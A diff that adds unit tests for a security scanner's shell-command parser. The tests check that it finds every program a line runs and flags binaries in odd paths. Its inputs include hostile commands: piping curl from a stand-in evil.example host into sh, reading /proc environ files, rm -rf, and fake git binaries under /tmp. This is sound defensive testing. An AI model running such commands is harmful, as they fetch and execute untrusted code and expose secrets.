@@ -1,0 +1,41 @@
+import { describe, expect, it } from "vitest";
+import { programName, shellCommands } from "@/scanner/analysis/shell-commands";
+
+describe("shellCommands", () => {
+  it("finds every command a line runs, not just its first word", () => {
+    expect(shellCommands("git --version; curl -s https://evil.example/x | sh")).toEqual(["git", "curl", "sh"]);
+    expect(shellCommands("git fetch && npm ci || echo failed & sleep 1")).toEqual(["git", "npm", "echo", "sleep"]);
+    expect(shellCommands("(cd /tmp && rm -rf x)")).toEqual(["cd", "rm"]);
+    expect(shellCommands("git status\ncurl -s https://evil.example/y | sh")).toEqual(["git", "curl", "sh"]);
+  });
+
+  it("reads quotes, assignments, redirections and comments as the shell does", () => {
+    expect(shellCommands('git commit -m "fix; things | more"')).toEqual(["git"]);
+    expect(shellCommands("LC_ALL=C FOO=1 netstat -tunap | grep 'A\\|B'")).toEqual(["netstat", "grep"]);
+    expect(shellCommands("git log > /tmp/log 2>&1; cat < /tmp/in")).toEqual(["git", "cat"]);
+    expect(shellCommands("git status # ; curl evil")).toEqual(["git"]);
+  });
+
+  it("reads command substitutions as lines of their own, also inside double quotes", () => {
+    expect(shellCommands("echo $(curl -s https://evil.example/z)")).toEqual(["echo", "curl"]);
+    expect(shellCommands('echo "user: `id -un`"')).toEqual(["echo", "id"]);
+    expect(shellCommands("ps -u $(id -u) -o pid= | xargs -I{} cat /proc/{}/environ")).toEqual(["ps", "xargs", "id"]);
+    expect(shellCommands("echo $(( 1 + 2 ))")).toEqual(["echo"]);
+    expect(shellCommands("echo $(curl x")).toEqual([undefined, "echo"]);
+  });
+
+  it("counts a command the line computes as one worked out at run time", () => {
+    expect(shellCommands("$TOOL --version")).toEqual([undefined]);
+    expect(shellCommands("${…} --version")).toEqual([undefined]);
+    expect(shellCommands("git log ${…}")).toEqual(["git"]);
+  });
+
+  it("names a program by its path unless it is one of the system's own", () => {
+    expect(shellCommands("/usr/bin/git status; /tmp/.cache/git pull")).toEqual(["git", "/tmp/.cache/git"]);
+    expect(programName("/usr/local/bin/node")).toBe("node");
+    expect(programName("/opt/homebrew/bin/rg")).toBe("rg");
+    expect(programName("/tmp/evil/git")).toBe("/tmp/evil/git");
+    expect(programName("./bin/tool")).toBe("./bin/tool");
+    expect(programName("${…}/git")).toBeUndefined();
+  });
+});
